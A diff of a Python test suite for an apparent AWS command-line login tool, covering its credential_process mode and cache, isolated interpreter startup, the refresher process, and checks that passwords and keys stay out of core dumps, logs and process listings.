+        self.assertEqual(plain.returncode, 97)
+        aws_login.write_cache("default", _fake_credentials(), ADMIN)
+        for cwd in (folder, self.home):
+            proc = subprocess.run(command, cwd=cwd, env=dict(os.environ),
+                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+            self.assertEqual(proc.returncode, 0, proc.stderr)
+            self.assertEqual(json.loads(proc.stdout.decode())["Version"], 1)
+            # argparse is loaded when the cache cannot answer: from the stdlib only.
+            proc = subprocess.run(command[:-1] + ["--help"], cwd=cwd, env=dict(os.environ),
+                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+            self.assertEqual(proc.returncode, 0, proc.stderr)
+            self.assertIn(b"usage:", proc.stdout)
+
+    def test_bytecode_lives_in_our_own_folder(self):
+        folder, copy = self.shared_copy()
+        command = self.configured_command(copy)
+        self.assertNotIn(" -c import aws_login", " ".join(command))
+        if sys.version_info >= (3, 8):
+            cache = os.path.join(self.home, ".aws-login", "pycache")
+            self.assertEqual(os.stat(cache).st_mode & 0o777, 0o700)
+            compiled = [n for _, _, names in os.walk(cache) for n in names]
+            self.assertTrue(any(n.startswith("aws_login.") and n.endswith(".pyc")
+                                for n in compiled), compiled)
+        self.assertFalse(os.path.exists(os.path.join(folder, "__pycache__")))
 
 
+class IsolatedStartTest(LoginTestCase):
+    """The configured command starts at the interpreter's floor (-I -S) and
+    starts again normally when a renewal may need site-packages."""
+    SLOW = True         # waits on real time: the runner starts it first
 
-def _parse_suite_request(text):
-    """(method, path, headers, body) from a suite's .req file."""
-    head, _, body = text.partition("\n\n")
-    lines = head.split("\n")
-    method, rest = lines[0].split(" ", 1)
-    path = rest.rsplit(" ", 1)[0]
-    headers = {}
-    for line in lines[1:]:
-        name, _, value = line.partition(":")
-        headers.setdefault(name, []).append(value)
-    return method, path, dict((k, ",".join(v)) for k, v in headers.items()), body.encode()
+    HEAVY = ("ssl", "urllib.request", "xml", "http.cookiejar", "argparse")
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        # A Python whose site-packages hold `keyring` (our stand-in), as pip puts it.
+        self.venv = os.path.join(self.home, "venv")
+        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", self.venv])
+        self.python = os.path.join(self.venv, "bin", "python")
+        site = subprocess.check_output([self.python, "-c", "import sysconfig;print("
+                                        "sysconfig.get_paths()['purelib'])"]).decode().strip()
+        self.write(os.path.join(site, "keyring.py"), FakeKeyring.SOURCE)
+        self.keyring = os.path.join(self.home, "keyring.json")
+        os.environ["FAKE_KEYRING_FILE"] = self.keyring
+        with open(self.keyring, "w") as f:
+            json.dump({"awscli_login alice@" + self.idp.host_port: PASSWORD}, f)
+        self.configure(username="alice", factor="auto", enable_keyring="true")
+        self.aws_config = os.environ["AWS_CONFIG_FILE"]
+
+    def configured_command(self):
+        import configparser
+        import shlex
+        parser = configparser.RawConfigParser()
+        parser.read(self.aws_config)
+        return shlex.split(parser.get("default", "credential_process"))
+
+    def serve(self, command, extra_env=None):
+        return subprocess.run(command, env=dict(os.environ, **(extra_env or {})),
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+    def test_renews_with_keyring_from_site_packages_then_serves_at_the_floor(self):
+        run = run_tool(["configure", "--credential-process"], env=dict(os.environ),
+                       terminal=False, argv_prefix=[self.python, SCRIPT])
+        self.assertEqual(run.code, 0, run)
+        command = self.configured_command()
+        self.assertEqual(command[:4], [self.python, "-I", "-S", "-c"])
+        # No cache: the isolated start cannot import keyring, so it starts again
+        # normally, and the keyring's password logs in.
+        first = self.serve(command)
+        self.assertEqual(first.returncode, 0, first.stderr)
+        self.assertEqual(json.loads(first.stdout.decode())["AccessKeyId"],
+                         self.sts.issued[-1]["AccessKeyId"])
+        self.assertEqual(_parse_basic(self.idp.requests[-1]["authorization"]),
+                         ("alice", PASSWORD))
+        requests = len(self.idp.requests) + len(self.sts.requests)
+        # Cached: served by the isolated interpreter, with no heavy module and no
+        # PYTHON* variable obeyed (a planted json.py on PYTHONPATH is ignored).
+        trap = os.path.join(self.home, "trap")
+        for module in self.HEAVY + ("json",):
+            self.write(os.path.join(trap, module.split(".")[0] + ".py"), "raise SystemExit(99)\n")
+        timed = [command[0], "-X", "importtime"] + command[1:]
+        second = self.serve(timed, {"PYTHONPATH": trap})
+        self.assertEqual(second.returncode, 0, second.stderr)
+        self.assertEqual(second.stdout, first.stdout)
+        self.assertEqual(len(self.idp.requests) + len(self.sts.requests), requests)
+        imported = re.findall(r"import time:\s+\d+ \|\s+\d+ \|\s*(\S+)", second.stderr.decode())
+        self.assertTrue(imported or sys.version_info < (3, 7), second.stderr)  # -X importtime
+        for module in imported:
+            self.assertNotIn(module.split(".")[0], [h.split(".")[0] for h in self.HEAVY])
+        self.assertNotIn("site", imported)
+
+    def test_the_quick_answer_serves_only_what_read_cache_would(self):
+        run = run_tool(["configure", "--credential-process"], env=dict(os.environ),
+                       terminal=False, argv_prefix=[self.python, SCRIPT])
+        self.assertEqual(run.code, 0, run)
+        command = self.configured_command()
+        cache = os.path.join(self.home, ".aws-login", "cache", "default")
+        fresh = aws_login.credential_process_json(_fake_credentials(1))
+        good = "%s\nexpires %d\nrole %s\n%s\n" % (aws_login.CACHE_HEADER,
+                                                time.time() + 3600, ADMIN, fresh)
+        self.write(cache, good)
+        self.assertEqual(self.serve(command).stdout.decode(), fresh + "\n")
+        self.assertEqual(self.idp.requests, [])
+        for name, text, owner in (
+                ("stale", good.replace("expires %d" % (time.time() + 3600),
+                                       "expires %d" % (time.time() + 60)), None),
+                ("another header", good.replace("cache 1", "cache 2"), None),
+                ("not a number", good.replace("expires ", "expires x"), None),
+                ("another user's", good, 4242)):
+            if owner and os.getuid() != 0:
+                continue
+            self.write(cache, text)
+            if owner:
+                os.chown(cache, owner, owner)
+            run = self.serve(command)
+            self.assertNotEqual(run.stdout.decode(), fresh + "\n", name)
+            self.assertNotIn(fresh, run.stdout.decode(), name)
+            if owner:
+                os.chown(cache, 0, 0)
+
+    def test_the_isolated_refresher_renews_with_keyring_from_site_packages(self):
+        self.sts.clock = lambda: time.time() - 3600 + 8      # 8-second credentials
+        self.configure(refresh="true")
+        run = run_tool(["login"], env=dict(os.environ), terminal=False,
+                       argv_prefix=[self.python, SCRIPT])
+        self.assertEqual(run.code, 0, run)
+        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
+        self.addCleanup(self.reap_refreshers)
+        def cmdline():
+            with open("/proc/%d/cmdline" % pid, "rb") as f:
+                return f.read().split(b"\0")
+        # it reports its pid, then starts the small interpreter: sleeps isolated
+        self.assertTrue(_wait_for(lambda: cmdline()[1:3] == [b"-I", b"-S"], 10), cmdline())
+        self.idp.expire_sessions()          # the renewal needs the keyring's password
+        first = self.credentials()["aws_access_key_id"]
+        log = os.path.join(self.home, ".aws-login", "log", "default.log")
+        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 15),
+                        self.read(log))
+        self.assertEqual(self.idp.logins[-1], ("alice", "password"))
+        self.assertEqual(_parse_basic(self.idp.requests[-1]["authorization"]),
+                         ("alice", PASSWORD))
+
+    def test_an_older_line_keeps_working_and_configure_upgrades_it(self):
+        old = ("%s -c 'import sys;sys.path[0]=%s;import aws_login as m;sys.exit(m.main())' "
+               "--profile default credential-process" % (self.python, json.dumps(HERE)))
+        self.write(self.aws_config, "[default]\nregion = eu-west-1\ncredential_process = %s\n"
+                   % old)
+        import shlex
+        served = self.serve(shlex.split(old))
+        self.assertEqual(served.returncode, 0, served.stderr)
+        self.assertEqual(json.loads(served.stdout.decode())["Version"], 1)
+        run = run_tool(["configure", "--region", "eu-west-1"], env=dict(os.environ),
+                       terminal=False, argv_prefix=[self.python, SCRIPT])
+        self.assertEqual(run.code, 0, run)
+        command = self.configured_command()
+        self.assertEqual(command[1:3], ["-I", "-S"])
+        self.assertTrue(self.read(self.aws_config).startswith("[default]\nregion = eu-west-1\n"
+                                                              "credential_process = "))
+        again = self.serve(command)
+        self.assertEqual(again.returncode, 0, again.stderr)
+        self.assertEqual(again.stdout, served.stdout)       # the same cache, no new login
 
 
-class GuardTest(LoginTestCase):
-    """Guards a mutation trial found unguarded: each test fails if its guard is
-    made a no-op or loosened."""
+def _core_soft_limit(pid="self"):
+    with open("/proc/%s/limits" % pid) as f:
+        for line in f:
+            if line.startswith("Max core file size"):
+                return line.split()[4]
 
-    def test_a_killed_writers_temp_files_are_removed_but_a_live_ones_kept(self):
+
+@unittest.skipUnless(os.path.exists("/proc/self/limits"), "needs /proc")
+class CoreDumpTest(LoginTestCase):
+    """A core dump would hold the password or the keys: our processes make none."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        import resource
+        soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
+        if hard != resource.RLIM_INFINITY and hard < 1 << 20:
+            self.skipTest("the hard core limit is too low to tell")
+        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, hard))   # what we start with
+        self.addCleanup(resource.setrlimit, resource.RLIMIT_CORE, (soft, hard))
+        self.configure(username="alice", factor="auto")
+
+    def test_login_and_its_refresher_make_no_core_dumps(self):
+        self.configure(refresh="true")
+        proc = subprocess.Popen([sys.executable, SCRIPT, "login", "--password-stdin"],
+                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                                stderr=subprocess.PIPE)
+        try:
+            # It waits for the password on stdin, holding nothing yet but its limit.
+            self.assertTrue(_wait_for(lambda: _core_soft_limit(proc.pid) == "0", 10),
+                            _core_soft_limit(proc.pid))
+        finally:
+            out, err = proc.communicate((PASSWORD + "\n").encode(), timeout=30)
+        self.assertEqual(proc.returncode, 0, err)
+        pid = int(re.search(r"A refresher \(pid (\d+)\)", err.decode()).group(1))
+        self.assertTrue(_wait_for(lambda: _core_soft_limit(pid) == "0", 10))
+        self.assertEqual(_core_soft_limit(), str(1 << 20))     # ours, not changed
+
+    def test_exec_gives_the_command_the_limit_it_had(self):
+        self.configure(password=PASSWORD)
+        run = self.tool(["exec", "--", "cat", "/proc/self/limits"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        line = [l for l in run.stdout.splitlines() if l.startswith("Max core file size")][0]
+        self.assertEqual(line.split()[4], str(1 << 20))
+
+
+# ---------------------------------------------------------------------------
+# Modes: the shared credentials file, or credential_process and its cache
+# ---------------------------------------------------------------------------
+
+class CredentialProcessTest(LoginTestCase):
+    AWS_CONFIG = "# my AWS config\r\n[default]\r\nregion = eu-west-1\r\n\r\n[profile x]\r\noutput=json\r\n"
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.aws_config = os.environ["AWS_CONFIG_FILE"]
+        self.write(self.aws_config, self.AWS_CONFIG)
         self.configure(username="alice", factor="auto", password=PASSWORD)
-        folder = os.path.dirname(self.credentials_file)
-        os.makedirs(folder)
-        stale = os.path.join(folder, ".credentials.dead.tmp")
-        young = os.path.join(folder, ".credentials.live.tmp")
-        other = os.path.join(folder, ".config.dead.tmp")
-        for path in (stale, young, other):
-            self.write(path, "aws_secret_access_key = leaked\n")
-        for path in (stale, other):
-            os.utime(path, (time.time() - 120, time.time() - 120))
+        run = self.tool(["configure", "--credential-process"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("Mode: process", run.stderr)
+
+    def command(self):
+        import configparser
+        parser = configparser.RawConfigParser()
+        parser.read_string(self.read(self.aws_config))
+        import shlex
+        return shlex.split(parser.get("default", "credential_process"))
+
+    def serve(self, terminal=False, answers=()):
+        """Run the configured command as botocore does: split, no shell, stdin inherited."""
+        command = self.command()
+        return run_tool(command[1:], answers, env=dict(os.environ), terminal=terminal,
+                        argv_prefix=command[:1])
+
+    def test_configure_edits_only_that_line(self):
+        text = self.read(self.aws_config)
+        line = [l for l in text.split("\r\n") if l.startswith("credential_process")][0]
+        self.assertEqual(text, self.AWS_CONFIG.replace(
+            "region = eu-west-1\r\n", "region = eu-west-1\r\n" + line + "\r\n"))
+        self.assertIn("credential-process", line)
+        self.assertIn("SourceFileLoader", line)     # cached bytecode, by its path
+        self.assertIn(" -I -S -c ", line)          # the interpreter's floor
+        self.assertIn(json.dumps(SCRIPT), line)
+
+    def test_output_matches_the_contract_exactly(self):
+        run = self.serve()
+        self.assertEqual(run.code, 0, run)
+        data = json.loads(run.stdout)
+        self.assertEqual(sorted(data), ["AccessKeyId", "Expiration", "SecretAccessKey",
+                                        "SessionToken", "Version"])
+        self.assertIs(type(data["Version"]), int)
+        self.assertEqual(data["Version"], 1)
+        self.assertRegex(data["Expiration"], r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
+        self.assertGreater(aws_login.parse_timestamp(data["Expiration"]).timestamp(),
+                           time.time() + 3000)
+        issued = self.sts.issued[-1]
+        self.assertEqual((data["AccessKeyId"], data["SecretAccessKey"], data["SessionToken"]),
+                         (issued["AccessKeyId"], issued["SecretAccessKey"],
+                          issued["SessionToken"]))
+        self.assertFalse(os.path.exists(self.credentials_file))    # nothing to shadow it
+        cache = os.path.join(self.home, ".aws-login", "cache", "default")
+        self.assertEqual(os.stat(cache).st_mode & 0o777, 0o600)
+        self.assertEqual(run.stderr, "")
+
+    def test_a_module_in_the_current_folder_is_never_imported(self):
+        trap = os.path.join(self.home, "trap")
+        for module in ("argparse", "json", "ssl", "aws_login"):
+            self.write(os.path.join(trap, module + ".py"), "import sys; sys.exit(99)\n")
+        command = self.command()
+        proc = subprocess.run(command, cwd=trap, env=dict(os.environ), stdout=subprocess.PIPE,
+                              stderr=subprocess.PIPE)
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        self.assertEqual(json.loads(proc.stdout.decode())["Version"], 1)
+
+    def test_parallel_calls_renew_once(self):
+        command = self.command()
+        procs = [subprocess.Popen(command, env=dict(os.environ), stdout=subprocess.PIPE,
+                                  stderr=subprocess.PIPE) for _ in range(6)]
+        outputs = [p.communicate()[0] for p in procs]
+        self.assertEqual([p.returncode for p in procs], [0] * 6)
+        self.assertEqual(len(set(outputs)), 1)
+        self.assertEqual(len(self.sts.requests), 1)
+
+    def test_cached_credentials_need_no_network(self):
+        first = self.serve()
+        self.idp.stop()
+        self.sts.stop()
+        second = self.serve()
+        self.assertEqual((second.code, second.stdout), (0, first.stdout))
+
+    def test_under_15_minutes_left_renews_through_the_idp_session(self):
+        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
+        first = self.serve()
+        second = self.serve()
+        self.assertEqual(second.code, 0, second)
+        self.assertNotEqual(json.loads(first.stdout)["AccessKeyId"],
+                            json.loads(second.stdout)["AccessKeyId"])
+        self.assertEqual(self.idp.logins, [("alice", "password"), ("alice", "session")])
+
+    def test_needs_a_person_without_terminal_fails_in_one_line(self):
+        self.configure(username="alice", factor="auto", password=None)
+        run = self.serve()
+        self.assertEqual((run.code, run.stdout), (11, ""))
+        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
+        self.assertIn("no password is stored", run.stderr)
+
+    def test_needs_a_person_with_a_terminal_asks_there(self):
+        self.configure(username="alice", factor="auto", password=None)
+        run = self.serve(terminal=True, answers=[("Password: ", PASSWORD)])
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
+        self.assertNotIn(PASSWORD, run.stdout + run.stderr + run.tty)
+
+    def test_logout_keeps_the_aws_cli_out_until_the_next_login(self):
+        self.assertEqual(self.serve().code, 0)
+        run = self.tool(["logout"], terminal=False)
+        self.assertEqual((run.code, run.stderr), (0, "Logged out of profile default.\n"))
+        run = self.serve()           # the IdP session is still alive: no quiet login
+        self.assertEqual((run.code, run.stdout), (10, ""))
+        self.assertIn("logged out", run.stderr)
+        self.assertEqual(self.tool(["logout"], terminal=False).code, 10)
+        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
+        self.assertEqual(self.serve().code, 0)
+
+    def test_login_fills_the_cache_and_starts_no_refresher(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        run = self.tool(["login"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertNotIn("refresher", run.stderr)
+        self.assertFalse(os.path.exists(self.credentials_file))
+        self.idp.stop()
+        self.assertEqual(json.loads(self.serve().stdout)["AccessKeyId"],
+                         self.sts.issued[-1]["AccessKeyId"])
+
+    def test_switching_modes_cleans_up_after_the_old_one(self):
+        self.serve()
+        run = self.tool(["configure", "--credential-process", "false"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("Mode: file", run.stderr)
+        self.assertEqual(self.read(self.aws_config), self.AWS_CONFIG)
+        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "cache",
+                                                     "default")))
+        self.assertEqual(self.tool(["--profile", "new", "configure", "--credential-process"],
+                                   terminal=False).code, 0)
+        self.assertEqual(self.tool(["--profile", "new", "configure", "--credential-process",
+                                    "false"], terminal=False).code, 0)
+        self.assertEqual(self.read(self.aws_config), self.AWS_CONFIG)     # no empty header
         self.assert_logged_in(self.tool(["login"], terminal=False))
-        self.assertFalse(os.path.exists(stale))
-        self.assertTrue(os.path.exists(young))      # a writer may still be busy with it
-        self.assertTrue(os.path.exists(other))      # another file's
+        run = self.tool(["configure", "--credential-process"], terminal=False)
+        self.assertIsNone(self.credentials())
+        self.write(self.credentials_file, "[default]\naws_access_key_id = AKIA\n"
+                   "aws_secret_access_key = x\n")
+        run = self.tool(["configure", "--credential-process"], terminal=False)
+        self.assertIn("shadow", run.stderr)
 
     @unittest.skipUnless(os.getuid() == 0, "needs root to make a file another user's")
     def test_a_cache_another_user_owns_is_never_read(self):
@@ -2852,101 +5136,873 @@ class GuardTest(LoginTestCase):
         run = self.tool(["credential-process"], terminal=False)
         self.assertNotIn(_fake_credentials(1).secret_access_key, run.stdout)
 
-    def test_records_have_names(self):
-        entry = aws_login.CacheEntry(5, ADMIN, "{}")
-        self.assertEqual((entry.expires, entry.role_arn, entry.json), (5, ADMIN, "{}"))
-        self.assertEqual(entry, (5, ADMIN, "{}"))
-        self.assertEqual(repr(entry), "CacheEntry(expires=5, role_arn=%r, json='{}')" % ADMIN)
-        aws_login.write_cache("default", _fake_credentials(2), ADMIN)
-        cached = aws_login.read_cache("default")
-        self.assertEqual(cached.role_arn, ADMIN)
-        self.assertEqual(json.loads(cached.json)["AccessKeyId"],
-                         _fake_credentials(2).access_key_id)
-        spans = aws_login._sections(aws_login._lines("[a]\nk = v\n\n[b]\n[a]\n"), "a")
-        self.assertEqual([(s.header, s.last, s.end) for s in spans], [(0, 2, 3), (4, 5, 5)])
 
-    def test_session_names_are_cleaned_for_sts(self):
-        clean = aws_login._session_name
-        self.assertEqual(clean("alice"), "alice")
-        self.assertEqual(clean("jos\u00e9 m\u00fcller/x"), "jos--m-ller-x")
-        self.assertEqual(clean("a" * 100), "a" * 64)
-        self.assertEqual(clean("x"), "aws_login")
-        self.assertEqual(clean(None), "aws_login")
-        self.assertEqual(clean("a=b,c.d@e-f+g_h"), "a=b,c.d@e-f+g_h")
+# ---------------------------------------------------------------------------
+# Refresher: a forked loop that renews before expiry
+# ---------------------------------------------------------------------------
 
-    def test_arns_and_regions_are_ascii(self):
-        digits = "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662"
-        for bad in ("arn:aws:iam::%s:role/Admin" % digits, "arn:aws:iam::123456789012:role/\u00e9",
-                    ADMIN + "\n"):
-            self.assertIsNone(aws_login._role_arn_match(bad), repr(bad))
-        self.assertIsNone(aws_login.parse_role_value(
-            ADMIN + ",arn:aws:iam::123456789012:saml-provider/\u00e9"))
-        self.assertEqual(aws_login.parse_role_value(ADMIN + "," + PROVIDER_A),
-                         aws_login.Role(ADMIN, PROVIDER_A))
-        self.assertRaises(aws_login.ConfigError, aws_login.check_region, "us-east-\u0661")
-        self.assertEqual(aws_login.check_region("us-east-1"), "us-east-1")
+class RenewalTimeTest(unittest.TestCase):
+    def test_sdks_never_see_under_15_minutes_and_short_sessions_renew_at_half(self):
+        r = aws_login.renewal_time
+        self.assertEqual(r(0, 3600), 3600 - 20 * 60)
+        self.assertEqual(r(0, 43200), 43200 - 20 * 60)
+        self.assertEqual(r(0, 900), 450)
+        self.assertEqual(r(0, 8), 4)
+        self.assertEqual(r(0, 2400), 1200)     # the two rules meet at 40 minutes
+        for lifetime in range(1800, 43201, 60):
+            self.assertGreaterEqual(lifetime - r(0, lifetime), 15 * 60, lifetime)
+            self.assertGreater(r(0, lifetime), 0)
 
-    def test_external_ids_are_checked(self):
-        for bad in ("x", "has space", "semi;colon", "\u00e9t\u00e9", "a" * 1225, "new\nline"):
-            with self.assertRaises(aws_login.ConfigError, msg=repr(bad)):
-                aws_login.check_external_id(bad)
-        for good in ("ab", "id-123_x+=,.@:/", "a" * 1224):
-            self.assertEqual(aws_login.check_external_id(good), good)
 
-    def test_a_menu_number_past_the_last_is_asked_again(self):
-        self.configure(username="bob", factor="auto", password="bob-pass")
-        run = self.tool(["login"], [("Selection", "3"), ("Please enter a number from 0 to 2",
-                                                         "2")])
+class RefresherStepTest(LoginTestCase):
+    """One Refresher in this process, its wall clock in the test's hands."""
+    SLOW = True         # waits on real time: the runner starts it first
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="push")
+        run = self.tool(["login"], [("Password: ", PASSWORD)])
+        self.assert_logged_in(run)
+        self.expires = aws_login.parse_timestamp(self.credentials()["aws_login_expiration"])
+        self.now = [time.time()]
+        self.lines = []
+        self.refresher = aws_login.Refresher("default", ADMIN, self.now[0],
+                                             self.expires.timestamp(),
+                                             clock=lambda: self.now[0], log=self.lines.append)
+
+    def test_sleeps_in_slices_then_renews_before_expiry(self):
+        delay = self.refresher.step()
+        self.assertEqual(delay, aws_login.REFRESH_SLICE)
+        self.assertEqual(len(self.sts.requests), 1)
+        self.now[0] = self.expires.timestamp() - 20 * 60 - 1
+        self.assertEqual(self.refresher.step(), 1)
+        self.now[0] += 1
+        old_key = self.credentials()["aws_access_key_id"]
+        self.assertIsNotNone(self.refresher.step())
+        self.assertEqual(len(self.sts.requests), 2)
+        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
+        self.assertEqual(self.credentials()["aws_access_key_id"],
+                         self.sts.issued[-1]["AccessKeyId"])
+        self.assertNotEqual(self.credentials()["aws_access_key_id"], old_key)
+        self.assertRegex(self.lines[-1], r"^renewed; the credentials expire at \S+Z; next "
+                                         r"renewal at \S+Z$")
+
+    def test_a_wall_clock_jump_renews_at_once(self):
+        self.assertEqual(self.refresher.step(), aws_login.REFRESH_SLICE)
+        self.now[0] += 5 * 3600             # the laptop slept through the renewal time
+        self.refresher.step()
+        self.assertEqual(len(self.sts.requests), 2)
+
+    def test_transient_idp_outage_is_retried_with_backoff(self):
+        self.now[0] = self.refresher.next_at
+        self.idp.override = (503, {"Content-Type": "text/html"}, b"<html>down</html>")
+        first = self.refresher.step()
+        self.assertIn("trying again in 10s", self.lines[-1])
+        self.assertEqual((first, len(self.sts.requests)), (10, 1))
+        self.now[0] += 10
+        self.assertEqual(self.refresher.step(), 20)
+        self.idp.override = None
+        self.now[0] += 20
+        self.refresher.step()
+        self.assertEqual(len(self.sts.requests), 2)
+        self.assertTrue(self.lines[-1].startswith("renewed"))
+        self.assertEqual(self.refresher.failures, 0)
+
+    def test_gives_up_at_expiry(self):
+        self.idp.override = (503, {}, b"")
+        self.now[0] = self.expires.timestamp() + 1
+        self.assertIsNone(self.refresher.step())
+        self.assertIn("expired", self.lines[-1])
+
+    def test_sts_throttling_is_transient(self):
+        self.now[0] = self.refresher.next_at
+        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded")] * 4)
+        self.assertIsNotNone(self.refresher.step())
+        self.assertIn("Throttling", self.lines[-1])
+
+    def test_stops_when_logged_out_or_replaced(self):
+        aws_login.write_credentials("default", _fake_credentials(), DEV)
+        self.assertIsNone(self.refresher.step())
+        self.assertIn("another login replaced the credentials (role %s)" % DEV, self.lines[-1])
+        aws_login.remove_credentials("default")
+        self.assertIsNone(self.refresher.step())
+        self.assertIn("logged out", self.lines[-1])
+
+    def test_a_logout_during_renewal_wins(self):
+        self.now[0] = self.refresher.next_at
+        self.idp.override = lambda handler: aws_login.remove_credentials("default") and None
+        self.assertIsNone(self.refresher.step())
+        self.assertIsNone(self.credentials())
+
+    def test_needs_a_person_logs_why_and_stops(self):
+        self.idp.expire_sessions()
+        self.now[0] = self.refresher.next_at
+        self.assertIsNone(self.refresher.step())
+        self.assertIn("no password is stored", self.lines[-1])
+        self.assertEqual(len(self.sts.requests), 1)
+
+    def test_keyring_password_with_the_configured_factor(self):
+        in_process_keyring(self, {("awscli_login", "alice@" + self.idp.host_port): PASSWORD})
+        self.configure(username="alice", factor="push", enable_keyring="true")
+        self.idp.expire_sessions()
+        self.now[0] = self.refresher.next_at
+        self.assertIsNotNone(self.refresher.step())
+        self.assertEqual(self.idp.logins[-1], ("alice", "password"))
+        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")
+        self.assertEqual(len(self.sts.requests), 2)
+
+
+class RefresherProcessTest(LoginTestCase):
+    """The real forked refresher, with credentials that live 8 seconds."""
+    SLOW = True         # waits on real time: the runner starts it first
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.sts.clock = lambda: time.time() - 3600 + 8
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        self.log = os.path.join(self.home, ".aws-login", "log", "default.log")
+
+    def refresher_pid(self, run):
+        match = re.search(r"A refresher \(pid (\d+)\) renews them", run.stderr)
+        self.assertTrue(match, run)
+        return int(match.group(1))
+
+    def test_renews_before_expiry_and_logout_stops_it(self):
+        started = time.time()
+        run = self.tool(["login"], terminal=False,
+                        env={"AWS_SECRET_ACCESS_KEY": "caller-secret-in-env"})
+        self.assertLess(time.time() - started, 5)       # returned at once, pipes released
+        self.assert_logged_in(run)
+        pid = self.refresher_pid(run)
+        first = self.credentials()["aws_access_key_id"]
+        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 10),
+                        self.read(self.log))
+        self.assertEqual(self.credentials()["aws_access_key_id"],
+                         self.sts.issued[-1]["AccessKeyId"])
+        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
+        self.assertEqual(os.stat(self.log).st_mode & 0o777, 0o600)
+        renewed = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ default\[%d\] renewed" % pid
+        # the child writes the file, then the loop logs: the line follows shortly
+        self.assertTrue(_wait_for(lambda: re.search(renewed, self.read(self.log)), 5),
+                        self.read(self.log))
+        with open("/proc/%d/cmdline" % pid, "rb") as f:
+            cmdline = f.read()
+        with open("/proc/%d/environ" % pid, "rb") as f:
+            environ = f.read()
+        with open("/proc/%d/stat" % pid) as f:
+            self.assertNotEqual(f.read().split()[5], "0")      # a session of its own
+        self.assertEqual(os.readlink("/proc/%d/cwd" % pid), "/")
+        self.assertIn(b"_refresher_loop", cmdline)      # a fresh, small interpreter
+        for secret in [PASSWORD, "caller-secret-in-env"] + [
+                c["SecretAccessKey"] for c in self.sts.issued] + [
+                c["SessionToken"] for c in self.sts.issued]:
+            self.assertNotIn(secret.encode(), cmdline + environ + self.read(self.log).encode())
+        run = self.tool(["logout"], terminal=False)
         self.assertEqual(run.code, 0, run)
-        self.assertEqual(self.sts.requests[-1]["form"]["RoleArn"], READONLY)    # the last
+        self.assertIn(_process_state(pid), (None, "Z"))
+        self.assertIsNone(self.credentials())
+        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "run",
+                                                     "default.pid")))
 
-    def test_a_chained_role_refused_gets_its_own_advice(self):
-        advice = aws_login._sts_advice("AccessDenied", "not authorized", "AssumeRole")
-        self.assertIn("chain_external_id", advice)
-        self.assertIn("trust policy", advice)
-        self.assertNotEqual(advice, aws_login._sts_advice("AccessDenied", "x",
-                                                          "AssumeRoleWithSAML"))
+    def test_one_refresher_per_profile(self):
+        self.sts.clock = time.time
+        pid = self.refresher_pid(self.tool(["login"], terminal=False))
+        run = self.tool(["login"], terminal=False)
+        self.assertEqual(run.code, 0)
+        self.assertIn("Already logged in to profile default", run.stderr)
+        self.assertIn("(pid %d)" % pid, run.stderr)
+        self.assertEqual(len(self.sts.requests), 1)
+        second = self.refresher_pid(self.tool(["login", "--force"], terminal=False))
+        self.assertNotEqual(pid, second)
+        self.assertIn(_process_state(pid), (None, "Z"))
+        self.assertNotIn(_process_state(second), (None, "Z"))
+        self.assertEqual(aws_login.refresher_state("default").pid, second)
+
+    def test_exits_when_another_login_takes_another_role(self):
+        self.idp.users["alice"]["roles"].append(DEV + "," + PROVIDER_A)
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true",
+                       role_arn=ADMIN)
+        pid = self.refresher_pid(self.tool(["login"], terminal=False))
+        aws_login.write_credentials("default", _fake_credentials(), DEV)
+        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
+        self.assertIn("another login replaced the credentials", self.read(self.log))
+
+    def test_piped_bootstrap_returns_at_once(self):
+        with open(SCRIPT, "rb") as f:
+            source = f.read()
+        started = time.time()
+        run = self.tool(["login"], stdin=source, argv_prefix=[sys.executable, "-"],
+                        terminal=False)
+        self.assertLess(time.time() - started, 5)
+        self.refresher_pid(run)
 
 
-class SigV4OrderTest(unittest.TestCase):
-    def test_query_is_sorted_after_encoding(self):
-        canonical, _ = aws_login.canonical_request("GET", "https://sts.amazonaws.com/?Z=1&%5B=2&a=",
-                                                   {"Host": "sts.amazonaws.com"}, b"")
-        self.assertEqual(canonical.split("\n")[2], "%5B=2&Z=1&a=")
+class RefresherLifetimeTest(LoginTestCase):
+    """The refresher backs off from credentials it cannot use, and never spins."""
